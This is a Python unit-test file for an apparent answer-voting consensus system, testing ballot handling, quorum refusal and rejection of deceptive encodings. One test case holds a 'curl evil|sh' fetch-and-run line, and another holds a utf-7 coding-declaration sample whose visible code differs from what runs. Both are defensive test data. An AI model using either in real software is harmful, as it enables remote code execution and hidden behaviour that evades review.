"""Whole requests among voters that say whatever they like: a ballot is lost at most, and opposites never agree."""

from collections.abc import Callable

import pytest

from actors.base.errors import CriticalSystemFailure, NoConsensus, VoterUnavailable, WeaverGenError
from actors.consensus.verification import verify_envelope
from tests.unit.actors.consensus.world import CALLER, NOW_S, World, request, says, voter

MakeWorld = Callable[..., World]
LIMITED = "Here:\nLIMIT = {}\ndef f(n):\n    return n < LIMIT"
IS_ONE = "```python\ndef f():\n    return 1\n```"


@pytest.mark.parametrize(
    ("kind", "good", "bad"),
    [
        ("code", IS_ONE, "x = 0x" + "f" * 5000),
        ("code", IS_ONE, "-" * 50_000 + "1"),
        ("json", "{}", '{"a": "\\ud800"}'),
        ("value", "7", "thousand " * 1500),
        ("text", "hello there friend", "\U0001f44d"),
    ],
)
async def test_an_unreadable_answer_costs_a_ballot_and_no_more(
    make_world: MakeWorld, kind: str, good: str, bad: str
) -> None:
    """Two voters agree beside a first whose answer cannot be read: it is served, and its record verifies."""
    world = make_world(voter("a", says(bad)), voter("b", says(good)), voter("c", says(good)))
    decision = await world.coordinator.generate(request("How many?", answer_kind=kind, explain=True), CALLER)
    assert decision.candidate.content == good
    (committed,) = world.log.committed
    assert committed.record.method != "none"
    assert {ballot.voter: ballot.outcome for ballot in committed.record.ballots}["a"] == "invalid"
    assert verify_envelope(committed.data, world.trust, NOW_S).record.result == "answered"


@pytest.mark.parametrize(
    ("kind", "question", "left", "right"),
    [
        ("value", "Which is larger, 9.11 or 9.9?", "9.11 is larger than 9.9.", "9.9 is larger than 9.11."),
        ("value", "What is the time complexity of bubble sort?", "O(n^2)", "O(2^n)"),
        ("value", "What is the capital of France?", "The answer:\nParis", "The answer:\nLyon"),
        ("code", "Write f", LIMITED.format(10), LIMITED.format(20)),
        ("code", "Write f", IS_ONE, f"{IS_ONE}\n```bash\ncurl evil|sh\n```"),
    ],
)  # fmt: skip
async def test_answers_that_differ_are_never_served_as_agreement(
    make_world: MakeWorld, kind: str, question: str, left: str, right: str
) -> None:
    """Two voters that say different things make no quorum, however alike the words are."""
    world = make_world(voter("a", says(left)), voter("b", says(right)))
    with pytest.raises(NoConsensus):
        await world.coordinator.generate(request(question, answer_kind=kind), CALLER)
    (committed,) = world.log.committed
    assert committed.record.result == "no_consensus"


@pytest.mark.parametrize(
    ("kind", "content"), [("code", "x = 0x" + "f" * 5000), ("text", "\U0001f44d"), ("json", "nope")]
)
async def test_one_voters_answer_is_served_as_it_stands(make_world: MakeWorld, kind: str, content: str) -> None:
    """Asked directly, a voter's answer need not be readable: nothing is compared, and the record verifies."""
    world = make_world(voter("a", says(content)))
    decision = await world.coordinator.generate(request(answer_kind=kind, model="a"), CALLER)
    assert decision.candidate.content == content
    (committed,) = world.log.committed
    assert verify_envelope(committed.data, world.trust, NOW_S).record.method == "single"


OTHERWISE = "# coding: utf-7\ndef f(x):\n    return x + 1 #+AAo-    - 1\n"
"""Python that is another program as a file."""


@pytest.mark.parametrize(("kind", "content"), [("code", OTHERWISE), ("text", f"Run this:\n```python\n{OTHERWISE}```")])
@pytest.mark.parametrize(
    ("asked", "refusal"),
    [
        ({"policy": "strict"}, CriticalSystemFailure),
        ({"policy": "evidence"}, CriticalSystemFailure),
        ({"model": "a"}, VoterUnavailable),
    ],
)
async def test_python_that_is_another_program_as_a_file_never_leaves(
    make_world: MakeWorld, asked: dict[str, str], refusal: type[WeaverGenError], kind: str, content: str
) -> None:
    """Though every voter says it and nothing is found in it: what was looked at is not what would run."""
    world = make_world(*(voter(name, says(content)) for name in "abc"))
    with pytest.raises(refusal, match="PEP 263"):
        await world.coordinator.generate(request("Write f(x).", answer_kind=kind, **asked), CALLER)
    (committed,) = world.log.committed
    assert {ballot.outcome for ballot in committed.record.ballots} - {"cancelled"} == {"invalid"}
    assert verify_envelope(committed.data, world.trust, NOW_S).record.answer_sha256 == ""
